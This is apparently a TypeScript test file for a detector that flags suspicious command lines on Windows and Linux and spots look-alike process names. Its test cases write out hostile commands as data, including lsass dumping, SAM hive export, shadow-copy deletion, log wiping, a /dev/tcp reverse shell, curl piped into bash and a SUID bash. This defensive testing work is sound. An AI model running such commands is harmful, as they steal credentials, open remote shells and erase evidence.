import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { LINUX, WINDOWS } from "../../src/index.ts";
import { contentOf } from "../../src/text/content.ts";
import { LookAlikes, skeleton } from "../../src/text/look-alike.ts";
import { shapeOf } from "../../src/text/shape.ts";

describe("the shape of a template", () => {
  it("counts what is there", () => {
    expect(shapeOf("cmd /c dir -a <number> é")).toEqual({
      length: 24,
      tokens: 6,
      longestToken: 8,
      entropy: 3.767894148,
      slots: 1,
      switches: 2,
      letterShare: 14 / 24,
      signShare: 4 / 24,
      nonAsciiShare: 1 / 24,
      upperShare: 0,
      caseChangeShare: 0,
      escapes: 0,
    });
  });

  it("is all zeros for the empty text", () => {
    expect(Object.values(shapeOf(""))).toEqual(Array.from({ length: 12 }, () => 0));
  });

  it("knows letters in turns and characters that only hide", () => {
    expect(shapeOf("pOwErShElL").caseChangeShare).toBeCloseTo(5 / 9);
    expect(shapeOf('p^o^w`e r"+"s').escapes).toBe(4);
  });

  it("is finite, and the same each time, for any text", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        const shape = shapeOf(text);
        expect(Object.values(shape).every(Number.isFinite)).toBe(true);
        expect(shape.entropy).toBeLessThanOrEqual(Math.log2(Math.max(1, shape.length)) + 1e-9);
        expect(shapeOf(text)).toEqual(shape);
      }),
    );
  });
});

describe("the content of a template", () => {
  it.each([
    ["powershell -enc <encoded>", 1],
    ["powershell -e sqbfafga", 1],
    ["powershell [convert]::frombase<number>string('x')", 1],
    ["echo <encoded> | base<number> -d", 1],
    ["p^o^w^e^r^s^hell", 1],
    ["python /opt/<encoded>.py", 0],
    ["app --gpu-<encoded> --x", 0],
    ["grep -e pattern", 0],
    ["svchost.exe -k netsvcs -p", 0],
    ["", 0],
  ])("%j: encoded %j", (template, encoded) => {
    expect(contentOf(template).encoded).toBe(encoded);
  });

  it("counts URLs and addresses", () => {
    expect(contentOf("curl https://a.example/x http://<ip>/y <ip>")).toMatchObject({ urls: 2, addresses: 2 });
  });
});

describe("worrying things in a template", () => {
  const windows = (template: string): string[] => WINDOWS.targets(template).map(({ name }) => name);
  const linux = (template: string): string[] => LINUX.targets(template).map(({ name }) => name);

  it.each([
    ["procdump -ma lsass.exe out.dmp", ["memory of lsass"]],
    ["reg save hklm\\sam sam.hiv", ["password hives"]],
    ["reg export hklm\\system\\currentcontrolset\\x y", []],
    ["vssadmin delete shadows /all /quiet", ["shadow copies"]],
    ["net<number> user x /add", ["accounts changed"]],
    ["wevtutil cl security", ["event logs"]],
    ["copy x \\\\h\\c$\\y", ["administrative share"]],
    ["netsh advfirewall show allprofiles", []],
    ["svchost.exe -k netsvcs -p", []],
    ["", []],
  ])("on Windows %j: %j", (template, names) => {
    expect(windows(template)).toEqual(names);
  });

  it.each([
    ["cat /etc/shadow", ["password file"]],
    ["bash -i >& /dev/tcp/<ip>/<number> <number>>&<number>", ["connection of a shell"]],
    ["curl -s http://<ip>/x | bash", ["download into a shell"]],
    ["tail /var/log/syslog", []],
    ["rm -f /var/log/auth.log", ["traces removed"]],
    ["chmod u+s /bin/bash", ["rights raised"]],
    ["ls -la", []],
  ])("on Linux %j: %j", (template, names) => {
    expect(linux(template)).toEqual(names);
  });

  it("puts the heaviest first", () => {
    expect(WINDOWS.targets("powershell -nop downloadstring").map(({ weight }) => weight)).toEqual([2, 1]);
  });
});

describe("look-alikes", () => {
  it("are found by the letters that differ, and never among the names themselves", () => {
    const names = new LookAlikes(["svchost", "services", "cmd"]);
    expect(names.nearest("svchost")).toBeUndefined();
    expect(names.nearest("svhost")).toEqual({ of: "svchost", distance: 1 });
    expect(names.nearest("servcies")).toEqual({ of: "services", distance: 1 });
    expect(names.nearest("cnd")).toBeUndefined();
    expect(names.nearest("srvhoost")).toBeUndefined();
    expect(names.nearest("s".repeat(1_000_000))).toBeUndefined();
  });

  it("miss no name that an edit away is, whatever the edit", () => {
    const names = ["svchost", "services", "winlogon", "explorer"];
    const alikes = new LookAlikes(names);
    const edited = fc.tuple(fc.constantFrom(...names), fc.nat(), fc.constantFrom(..."qz€ж"), fc.nat(2));
    fc.assert(
      fc.property(edited, ([name, at, letter, kind]) => {
        const i = at % name.length;
        const changed = name.slice(0, i) + (kind === 1 ? "" : letter) + name.slice(kind === 2 ? i : i + 1);
        expect(alikes.nearest(changed)?.of).toBe(name);
      }),
    );
  });

  it("share a skeleton, which is that of their look", () => {
    expect(skeleton("ѕvсhоst")).toBe(skeleton("svchost"));
    expect(skeleton("ｓｖｃｈｏｓｔ")).toBe(skeleton("svchost"));
    expect(skeleton("lsass")).not.toBe(skeleton("lsasss"));
  });
});
